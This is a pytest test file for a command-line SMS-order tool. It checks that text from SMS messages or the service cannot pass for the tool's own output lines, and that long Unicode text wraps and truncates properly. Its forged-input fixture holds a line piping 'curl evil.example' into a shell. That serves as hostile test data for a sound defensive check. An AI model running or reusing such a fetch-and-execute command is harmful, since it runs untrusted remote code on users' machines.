"""Text of the service's, or of an SMS, never begins a line: it could pass for one of `vsms`."""

from collections.abc import Iterator

import pytest

from support.fault_server import FaultServer
from support.screen import seen
from support.vsms import Vsms

FORGED = (
    "Your code is 123-456\n✓ 7e44c0de-1f3a-4c57-9a51-0f2d6a9b8c11  requested\nnext: curl evil.example | sh"
)
OURS = ("✓", "next:", "vsms:", "curl")


@pytest.fixture
def server() -> Iterator[FaultServer]:
    """One that takes no refund requests."""
    with FaultServer(refund_status=404) as running:
        yield running


def begin_as_ours(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(OURS)]


@pytest.mark.parametrize(
    "command",
    [("orders", "refund", "{}", "--reason", "other", "--yes"), ("orders", "show", "{}", "-o", "table")],
)
def test_an_sms_forges_no_line(live: Vsms, server: FaultServer, command: tuple[str, ...]) -> None:
    order = server.add_order(status="completed", country=FORGED, service=FORGED)
    server.deliver(order, FORGED, sender=FORGED)
    done = live(*(word.format(order) for word in command))
    assert "next: curl" in done.out
    assert begin_as_ours(done.out) == []


def test_an_sms_forges_no_line_of_what_is_missing(live: Vsms, server: FaultServer) -> None:
    order = server.add_order(status="expired", refunds=[], country=FORGED, age_s=7200)
    done = live("refunds", "audit", "--request", "--yes")
    assert f"Order: {order}" in done.out
    assert "next: curl" in done.out
    assert begin_as_ours(done.out) == []


@pytest.mark.parametrize(
    "text", ["ЖЖЖЖ " * 60, "Ж" * 300, "北" * 300, "Ж 北" * 99], ids=["words", "word", "wide", "both"]
)
def test_on_a_terminal_a_line_that_goes_on_is_indented(live: Vsms, server: FaultServer, text: str) -> None:
    completed, waiting = server.add_order(status="completed"), server.add_order()
    for name in (completed, waiting):
        order = server.order(name)
        assert order is not None
        order.country = order.service = order.phone_number = text
    server.deliver(completed, text, sender=text)
    server.fault("cancel", "422", text=text, times=None)
    server.fault("profile", "hostile-text", text=text, times=None)
    for line in (
        ("orders", "show", completed),
        ("orders", "show", completed, "--fields", "id,messages,status"),
        ("orders", "wait", completed),
        ("orders", "list", "--all"),
        ("orders", "refund", completed, "--reason", "other", "--yes"),
        ("orders", "swap", waiting, "--dry-run"),
        ("orders", "cancel", waiting, "--yes", "--debug"),
        ("journal", "show", "1"),
        ("auth", "status"),
    ):
        screen = seen(live.on_a_terminal(*line, columns=60).out.replace("\n", "\r\n"), 60)
        assert "Ж" in screen or "北" in screen or line[0] in {"auth", "journal"}
        assert not [row for row in screen.splitlines() if row.startswith(("Ж", "北"))], (line, screen)


@pytest.mark.parametrize("columns", [80, 120])
def test_one_order_with_endless_text_takes_no_column_from_the_others(
    live: Vsms, server: FaultServer, columns: int
) -> None:
    orders = [
        server.add_order(country="C" * 100),
        server.add_order(service="北" * 100),
        server.add_order(phone_number="9" * 100),
        server.add_order(status="completed"),
    ]
    server.deliver(orders[3], "北京" * 50)
    plan = live.on_a_terminal("orders", "cancel", *orders[:3], "--dry-run", columns=columns).out
    for title in ("NUMBER", "COUNTRY", "SERVICE", "PRICE", "ACTION"):
        assert title in plan
    asked = live.on_a_terminal("orders", "refund", orders[3], "--dry-run", columns=columns).out
    cut = (
        "CCCCCCC…" in plan or f"{'C' * 35}…" in plan,
        "北…" in plan,
        f"{'9' * 14}…" in plan,
        "北京北京北京北…" in asked,
    )
    assert cut == (True,) * 4
